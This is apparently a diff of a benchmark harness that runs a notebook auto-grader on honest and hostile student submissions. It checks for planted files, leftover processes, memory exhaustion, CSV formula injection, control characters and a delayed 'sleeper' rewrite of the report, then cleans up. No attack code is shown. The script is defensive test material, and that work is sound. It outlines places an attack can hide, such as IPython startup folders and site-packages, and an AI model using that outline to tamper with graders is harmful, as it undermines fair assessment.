+            for key in sorted(set(old) | set(new)):
+                if old.get(key) != new.get(key):
+                    change = ("added" if key not in old else
+                              "removed" if key not in new else "changed")
+                    found.setdefault(check, []).append(
+                        f"{change}: {printable(str(Path(folder, key)))}"
+                    )
+    return found
+
+
+def planted_files(context: Context) -> list[Path]:
+    """Files named after the run's marker, where the attacks try to put them."""
+    places = [ROOT / "course_utils", context.home, *site_packages(),
+              Path(os.path.expanduser("~/.ipython")), Path("/tmp")]
+    found = []
+    for place in places:
+        depth_limited = place == Path("/tmp")
+        for where, folders, files in os.walk(place):
+            if depth_limited:
+                folders[:] = []
+            found += [Path(where, name) for name in files + folders
+                      if context.marker in name]
+    return sorted(set(found))
+
+
+def run_processes(context: Context, exclude: set[int]) -> list[psutil.Process]:
+    """Processes of this run still alive: the marker in their command line or
+    environment, or the run's folder in their command line."""
+    found = []
+    for process in psutil.process_iter(["pid", "cmdline"]):
+        if process.info["pid"] in exclude:
+            continue
+        try:
+            command = " ".join(process.info["cmdline"] or ())
+            ours = context.marker in command or str(context.out) in command
+            if not ours:
+                ours = process.environ().get(RUN_VARIABLE) == context.marker
+            if ours and process.status() != psutil.STATUS_ZOMBIE:
+                found.append(process)
+        except psutil.Error:
+            continue
+    return found
+
+
+@dataclass
+class Watch:
+    """What a monitor thread saw while the grader ran."""
+
+    grader_peak_mb: float = 0.0  # the grader process's own peak (VmHWM)
+    marker_peak_mb: float = 0.0  # the largest total resident memory of marked processes
+    done: threading.Event = field(default_factory=threading.Event)
+
+
+def high_water_mb(pid: int) -> float:
+    """A process's peak resident memory so far (VmHWM), in MB; 0 when gone."""
+    try:
+        with open(f"/proc/{pid}/status", encoding="ascii") as status:
+            for line in status:
+                if line.startswith("VmHWM:"):
+                    return int(line.split()[1]) / 1024
+    except OSError:
+        pass
+    return 0.0
+
+
+def monitor(pid: int, marker: str, watch: Watch) -> None:
+    """Sample the grader's peak memory and the marked processes' memory."""
+    while not watch.done.is_set():
+        watch.grader_peak_mb = max(watch.grader_peak_mb, high_water_mb(pid))
+        total = 0
+        for process in psutil.process_iter(["cmdline", "memory_info"]):
+            try:
+                if marker in " ".join(process.info["cmdline"] or ()):
+                    total += process.info["memory_info"].rss
+            except (psutil.Error, TypeError, AttributeError):
+                continue
+        watch.marker_peak_mb = max(watch.marker_peak_mb, total / 2**20)
+        watch.done.wait(0.5)
+
+
+@dataclass
+class GraderRun:
+    """One run of the grader: exit code, time, console output, memory."""
+
+    code: int
+    seconds: float
+    console: bytes
+    watch: Watch
+
+
+def run_grader(command: list[str], env: dict[str, str], marker: str,
+               log: Path | None = None) -> GraderRun:
+    """Run the grader, echo its console (control characters shown as ``?``), keep
+    its raw output, and watch its memory and the marked processes'."""
+    start = time.perf_counter()
+    process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE,
+                               stderr=subprocess.STDOUT)
+    watch = Watch()
+    thread = threading.Thread(target=monitor, args=(process.pid, marker, watch),
+                              daemon=True)
+    thread.start()
+    console = bytearray()
+    for line in process.stdout:
+        console += line
+        if log is not None:
+            print(printable(line.decode("utf-8", "replace").rstrip("\n")), flush=True)
+    code = process.wait()
+    watch.done.set()
+    thread.join()
+    if log is not None:
+        log.write_bytes(bytes(console))
+    return GraderRun(code, time.perf_counter() - start, bytes(console), watch)
+
+
+def neutral_cell(cell: str) -> bool:
+    """Whether a CSV cell is safe: no formula start, no control character (a
+    message may keep its line breaks)."""
+    start = cell.lstrip()[:1]
+    return start not in ("=", "+", "-", "@") and not CONTROL.search(
+        cell.replace("\n", "")
+    )
+
+
+def report_problems(path: Path) -> list[str]:
+    """A report that does not parse, or a cell that is not neutral."""
+    try:
+        with open(path, newline="", encoding="utf-8") as handle:
+            table = list(csv.reader(handle))
+    except (OSError, UnicodeDecodeError, csv.Error) as error:
+        return [f"report.csv does not read: {error}"]
+    needed = {"submission", "notebook", "exercise", "status", "message", "flags"}
+    if not table or not needed <= set(table[0]):
+        return ["report.csv has no header naming " + ", ".join(sorted(needed))]
+    problems = []
+    for number, line in enumerate(table, 1):
+        if len(line) != len(table[0]):
+            problems.append(f"line {number} has {len(line)} cells")
+        problems += [f"line {number}: cell not neutral: {printable(cell)[:80]}"
+                     for cell in line if not neutral_cell(cell)]
+    return problems
+
+
+def reading_memory(context: Context, extra: list[str]) -> dict[str, float]:
+    """The grader's peak memory on the large files alone, and on a tiny file.
+
+    Each grader runs under a small Python that reports its children's peak
+    resident memory (the grader's own: no kernel starts for invalid files).
+    """
+    folders = {"large": context.out / "memory" / "large",
+               "small": context.out / "memory" / "small"}
+    for folder in folders.values():
+        folder.mkdir(parents=True)
+    junk(60 * 2**20)(folders["large"] / "large_junk.ipynb")
+    truncated_json(40 * 2**20)(folders["large"] / "large_json.ipynb")
+    truncated_json(2**10)(folders["small"] / "small_json.ipynb")
+    peaks = {}
+    for name, folder in folders.items():
+        grader = [sys.executable, "-m", "instructor.grade", str(folder), "--out",
+                  str(folder.with_suffix(".csv")), "--quiet", *extra]
+        wrapper = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:], "
+                   "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL); "
+                   "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
+        found = subprocess.run([sys.executable, "-c", wrapper, *grader], cwd=ROOT,
+                               capture_output=True, text=True, check=True)
+        peaks[name] = int(found.stdout.split()[-1]) / 1024
+    return peaks
+
+
+def check_side_effects(context, before, run: GraderRun, report_hash, exclude,
+                       submissions, rows, hostile_run: bool, extra: list[str]):
+    """Every side-effect check: ``{check: [problems]}`` (empty lists when fine)."""
+    found: dict[str, list[str]] = {check: [] for check in EFFECTS}
+    for check, changes in differences(before, snapshot(watched(context))).items():
+        found[check] += changes
+    found["planted"] += [printable(str(path)) for path in planted_files(context)]
+    left = run_processes(context, exclude)
+    found["processes"] += [f"pid {p.pid}: {printable(' '.join(p.cmdline()))[:120]}"
+                           for p in left if p.is_running()]
+    if run.watch.marker_peak_mb > MEMORY_CAP_MB:
+        found["memory"].append(f"marked processes reached "
+                               f"{run.watch.marker_peak_mb:.0f} MB, over the "
+                               f"{MEMORY_CAP_MB} MB cap")
+    if run.code != 0:
+        found["grader"].append(f"the grader exited with {run.code}")
+    names = {sub.name for sub in submissions if not rows_of(sub, rows)}
+    found["grader"] += [f"no row for {printable(name)}" for name in sorted(names)]
+    found["grader"] += [f"{printable(row['submission'])}: not graded"
+                        for row in rows if row["status"] == "not graded"]
+    found["report"] += report_problems(context.report)
+    if context.report.exists() and digest(context.report) != report_hash:
+        found["report"].append("report.csv changed after the grader exited")
+    text = run.console.decode("utf-8", "replace")
+    bad = sorted({f"\\x{ord(c):02x}" for c in CONTROL.findall(text)})
+    if bad:
+        found["console"].append(f"control characters printed: {' '.join(bad)}")
+    if hostile_run:
+        peaks = reading_memory(context, extra)
+        rise = peaks["large"] - peaks["small"]
+        found["reading_figures"] = [f"grader peak {peaks['large']:.0f} MB with the "
+                                    f"60 + 40 MB files, {peaks['small']:.0f} MB with "
+                                    f"a 1 kB one: +{rise:.0f} MB"]
+        if rise > 3 * 40:
+            found["reading"].append(f"reading the 40 MB file took +{rise:.0f} MB")
+    return found
+
+
+def clean_up(context: Context, exclude: set[int]) -> list[str]:
+    """Kill what the run left and remove what it planted (by marker, nothing
+    else); return what was done."""
+    done = []
+    for process in run_processes(context, exclude):
+        try:
+            process.kill()
+            done.append(f"killed pid {process.pid}")
+        except psutil.Error:
+            continue
+    for path in planted_files(context):
+        if path.is_dir() and not path.is_symlink():
+            shutil.rmtree(path, ignore_errors=True)
+        else:
+            path.unlink(missing_ok=True)
+        done.append(f"removed {printable(str(path))}")
+    return done
+
+
+# ---------------------------------------------------------------------------------
+# The run.
+# ---------------------------------------------------------------------------------
+def prepare(context: Context, submissions: list[Submission]) -> None:
+    """Write the class, the --course copy and the grader's HOME."""
+    write_class(context.submissions, submissions)
+    context.course.mkdir(parents=True)
+    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
+        shutil.copy2(path, context.course / path.name)
+    startup = context.home / ".ipython" / "profile_default" / "startup"
+    startup.mkdir(parents=True)
+    (startup / "README").write_text("Files here run in every kernel started with "
+                                    "this HOME.\n")
+    # Matplotlib's font cache, so that kernels need not build it (about 10 s each).
+    fonts = Path(os.path.expanduser("~/.cache/matplotlib"))
+    if fonts.is_dir():
+        shutil.copytree(fonts, context.home / ".cache" / "matplotlib")
+    # Checks compare the package with its compiled files: compile them first, so
+    # that the grader's own imports write nothing.
+    subprocess.run([sys.executable, "-m", "compileall", "-q", str(package_folder())],
+                   check=True)
+
+
+def effects_table(submissions, problems_by_sub, found) -> list[str]:
+    """Markdown lines: category, expected, got, side effects ok."""
+    lines = ["| category | submission | expected | got | side effects ok |",
+             "|---|---|---|---|---|"]
+    for sub in submissions:
+        if not sub.category:
+            continue
+        expected = ", ".join(f"{n or 'file'}: {'/'.join(allowed(s))}"
+                             for n, s in sub.expected.items())
+        got = ", ".join(f"{n or 'file'}: {row['status']}"
+                        for n, row in sorted(problems_by_sub[sub.name].items()))
+        bad = [check for check in sub.effects if found.get(check)]
+        effects = "yes" if not bad else "NO: " + ", ".join(bad)
+        lines.append(f"| {sub.category} | {printable(sub.name)[:40]} | {expected} | "
+                     f"{got or '(no row)'} | {effects} |")
+    return lines
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -451,40 +1466,81 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--out", type=Path,
                         default=ROOT / "benchmarks" / "results" / "grading")
     parser.add_argument("--workers", type=int, default=2)
+    parser.add_argument("--section", choices=("honest", "hostile", "all"),
+                        default="all")
+    parser.add_argument("--no-sandbox", action="store_true",
+                        help="pass --no-sandbox to the grader (to see what the "
+                        "sandbox prevents: side effects are then expected)")
     args = parser.parse_args(argv)
-    submissions = class_of_30()
-    folder = args.out / "submissions"
-    shutil.rmtree(args.out, ignore_errors=True)
-    write_class(folder, submissions)
-    report = args.out / "report.csv"
-    command = [sys.executable, "-m", "instructor.grade", str(folder),
-               "--out", str(report), "--workers", str(args.workers)]
+    context = Context(args.out.resolve(), f"hostile-{uuid.uuid4().hex[:12]}")
+    submissions = []
+    if args.section in ("honest", "all"):
+        submissions += class_of_30()
+    if args.section in ("hostile", "all"):
+        submissions += hostile_class(context)
+    shutil.rmtree(context.out, ignore_errors=True)
+    prepare(context, submissions)
+    extra = ["--no-sandbox"] if args.no_sandbox else []
+    folders = watched(context)
+    before = snapshot(folders)
+    # A temporary folder of the run's own (short: Unix socket paths are limited),
+    # where the grader's job folders go: attacks looking for them (without the
+    # sandbox) then find this run's only.
+    scratch = Path(f"/tmp/gc-{context.marker[-8:]}")
+    scratch.mkdir()
+    env = {**os.environ, "HOME": str(context.home), RUN_VARIABLE: context.marker,
+           "TMPDIR": str(scratch)}
+    command = [sys.executable, "-m", "instructor.grade", str(context.submissions),
+               "--out", str(context.report), "--course", str(context.course),
+               "--workers", str(args.workers), *extra]
     print("$", " ".join(command), flush=True)
-    start = time.perf_counter()
-    done = subprocess.run(command, cwd=ROOT)
-    seconds = time.perf_counter() - start
-    with open(report, newline="", encoding="utf-8") as handle:
-        rows = list(csv.DictReader(handle))
+    exclude = {os.getpid()}
+    run = run_grader(command, env, context.marker, log=context.out / "grader.log")
+    report_hash = digest(context.report) if context.report.exists() else ""
+    time.sleep(6)  # the sleeper attack rewrites the report 2 s after it appears
+    rows = []
+    if context.report.exists():
+        with open(context.report, newline="", encoding="utf-8") as handle:
+            rows = list(csv.DictReader(handle))
+    found = check_side_effects(context, before, run, report_hash, exclude,
+                               submissions, rows, args.section != "honest", extra)
+    cleaned = clean_up(context, exclude)
+    shutil.rmtree(scratch, ignore_errors=True)
     problems = compare(submissions, rows)
-    expected_rows = sum(len(sub.expected) for sub in submissions)
+    verdicts = sum(len(sub.expected) for sub in submissions)
     counts: dict[str, int] = {}
     for row in rows:
         counts[row["status"]] = counts.get(row["status"], 0) + 1
+    figures = found.pop("reading_figures", [])
+    effect_problems = [f"{check}: {item}" for check, items in found.items()
+                       for item in items]
     when = datetime.now(timezone.utc).strftime("%Y-%m-%d %H:%M UTC")
     lines = [
-        f"Graded {len(submissions)} generated submissions ({expected_rows} verdicts) "
-        f"with {args.workers} workers in {seconds / 60:.1f} min on {os.cpu_count()} "
-        f"cores ({platform.processor() or platform.machine()}), {when}; grader exit "
-        f"code {done.returncode}.",
+        f"Section {args.section}: graded {len(submissions)} generated submissions "
+        f"({verdicts} verdicts) with {args.workers} workers in {run.seconds / 60:.1f} "
+        f"min on {os.cpu_count()} cores ({platform.processor() or platform.machine()})"
+        f", {when}; grader exit code {run.code}"
+        f"{' (--no-sandbox)' if args.no_sandbox else ''}.",
         "Statuses reported: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items()))
         + ".",
-        f"Verdicts as expected: {expected_rows - len(problems)}/{expected_rows}.",
-        *(f"- {problem}" for problem in problems),
+        f"Verdicts and flags as expected: {verdicts - len(problems)}/{verdicts}.",
+        f"Grader's own peak memory (VmHWM) {run.watch.grader_peak_mb:.0f} MB; marked "
+        f"processes' peak {run.watch.marker_peak_mb:.0f} MB.",
+        *figures,
+        *(f"- {printable(problem)}" for problem in problems),
     ]
+    if args.section != "honest":
+        by_sub = {sub.name: rows_of(sub, rows) for sub in submissions}
+        lines += ["", *effects_table(submissions, by_sub, found), ""]
+    lines.append("Side effects: " + ("none." if not effect_problems else
+                                     f"{len(effect_problems)} found:"))
+    lines += [f"- {problem}" for problem in effect_problems[:200]]
+    if cleaned:
+        lines.append("Cleaned up after the run: " + "; ".join(cleaned[:50]))
     text = "\n".join(lines)
-    (args.out / "grading.md").write_text(text + "\n", encoding="utf-8")
+    (context.out / "grading.md").write_text(text + "\n", encoding="utf-8")
     print("\n" + text)
-    return 1 if problems or done.returncode != 0 else 0
+    return 1 if problems or effect_problems else 0
 
 
 if __name__ == "__main__":
